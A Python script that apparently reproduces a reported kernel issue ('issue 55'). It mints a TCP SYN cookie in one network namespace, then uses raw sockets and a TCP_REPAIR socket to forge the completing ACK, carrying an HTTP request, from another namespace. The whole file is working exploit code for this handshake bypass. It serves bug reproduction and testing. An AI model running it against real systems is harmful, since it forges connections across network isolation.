#!/usr/bin/env python3
"""The SYN-cookie ACK of issue 55, done by hand with raw sockets (root in the netns it runs in).

  syncookie_ack.py mint CLIENT SPORT SERVER DPORT
      In a netns of the caller's holding both addresses, with tcp_syncookies=2: listens on
      SERVER:DPORT, sends a SYN (no options) from CLIENT:SPORT and prints "ISN COOKIE", the SYN's
      sequence number and the SYN-ACK's, which is the cookie. The cookie secret is the kernel's,
      not the netns': the real SERVER's listener, in cookie mode, takes this cookie as its own.
  syncookie_ack.py attack CLIENT SPORT SERVER DPORT ISN COOKIE
      In CLIENT's netns: sends the ACK that ends that handshake, carrying an HTTP request (a
      TCP_REPAIR socket holds the 4-tuple, so that the netns' kernel lets the answer in rather
      than resetting it), and prints what comes back from SERVER:DPORT within 3 s: "answer <its
      first bytes>" (the request reached the application), "reset", or "nothing".
Either exits 1 with the reason on stderr when it cannot do its part.
"""
import ipaddress
import select
import socket
import struct
import sys
import time

SYN, RST, PSH, ACK = 0x02, 0x04, 0x08, 0x10
REQUEST = b"GET / HTTP/1.0\r\nHost: syncookie\r\n\r\n"


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def segment(src, dst, sport, dport, seq, ack, flags, payload=b""):
    """A TCP header without options, then @payload, its checksum over the pseudo-header."""
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    length = len(hdr) + len(payload)
    if src.version == 4:
        pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, socket.IPPROTO_TCP, length)
    else:
        pseudo = src.packed + dst.packed + struct.pack("!IxxxB", length, socket.IPPROTO_TCP)
    csum = checksum(pseudo + hdr + payload)
    return hdr[:16] + struct.pack("!H", csum) + hdr[18:] + payload


def raw_socket(src):
    family = socket.AF_INET if src.version == 4 else socket.AF_INET6
    s = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_TCP)
    s.bind((str(src), 0))
    return s


def segments(s, src, sport, dst, dport, secs):
    """Yields (flags, seq, payload) of the TCP segments @src:@sport -> @dst:@dport for @secs."""
    end = time.monotonic() + secs
    while True:
        left = end - time.monotonic()
        if left <= 0 or not select.select([s], [], [], left)[0]:
            return
        data, addr = s.recvfrom(65535)
        if src.version == 4:  # an IPv4 raw socket reads the IP header too
            if ipaddress.ip_address(data[12:16]) != src:
                continue
            data = data[(data[0] & 0xF) * 4 :]
        elif ipaddress.ip_address(addr[0]) != src:
            continue
        if len(data) < 20:
            continue
        sp, dp, seq, _, off, flags = struct.unpack("!HHIIBB", data[:14])
        if (sp, dp) == (sport, dport):
            yield flags, seq, data[(off >> 4) * 4 :]


def mint(client, sport, server, dport):
    family = socket.AF_INET if server.version == 4 else socket.AF_INET6
    lst = socket.socket(family, socket.SOCK_STREAM)
    lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    lst.bind((str(server), dport))
    lst.listen(8)
    s = raw_socket(client)
    isn = 0x1BADCAFE
    s.sendto(segment(client, server, sport, dport, isn, 0, SYN), (str(server), 0))
    for flags, seq, _ in segments(s, server, dport, client, sport, 3):
        if flags & (SYN | ACK) == SYN | ACK:
            print(isn, seq)
            return 0
    print("no SYN-ACK from %s:%d" % (server, dport), file=sys.stderr)
    return 1


TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
TCP_RECV_QUEUE, TCP_SEND_QUEUE = 1, 2


def holder(client, sport, server, dport, snd_nxt, rcv_nxt):
    """A socket owning the 4-tuple, put in place with TCP_REPAIR (it sends nothing), so that this
    netns' kernel does not reset what the server answers: the answer can then come."""
    family = socket.AF_INET if server.version == 4 else socket.AF_INET6
    h = socket.socket(family, socket.SOCK_STREAM)
    h.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    h.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    h.bind((str(client), sport))
    h.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, TCP_SEND_QUEUE)
    h.setsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, struct.pack("I", snd_nxt & 0xFFFFFFFF))
    h.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, TCP_RECV_QUEUE)
    h.setsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, struct.pack("I", rcv_nxt & 0xFFFFFFFF))
    h.connect((str(server), dport))
    return h


def attack(client, sport, server, dport, isn, cookie):
    s = raw_socket(client)
    h = holder(client, sport, server, dport, isn + 1 + len(REQUEST), cookie + 1)
    seq, ack = (isn + 1) & 0xFFFFFFFF, (cookie + 1) & 0xFFFFFFFF
    seg = segment(client, server, sport, dport, seq, ack, ACK | PSH, REQUEST)
    s.sendto(seg, (str(server), 0))
    for flags, _, payload in segments(s, server, dport, client, sport, 3):
        if payload:
            print("answer", payload[:200].decode("latin-1").replace("\r\n", " | "))
            return 0
        if flags & RST:
            print("reset")
            return 0
    print("nothing")
    h.close()
    return 0


def main(argv):
    if len(argv) < 6 or argv[1] not in ("mint", "attack") or (argv[1] == "attack") != (len(argv) == 8):
        print(__doc__, file=sys.stderr)
        return 1
    client, server = ipaddress.ip_address(argv[2]), ipaddress.ip_address(argv[4])
    sport, dport = int(argv[3]), int(argv[5])
    if argv[1] == "mint":
        return mint(client, sport, server, dport)
    return attack(client, sport, server, dport, int(argv[6]), int(argv[7]))


if __name__ == "__main__":
    sys.exit(main(sys.argv))
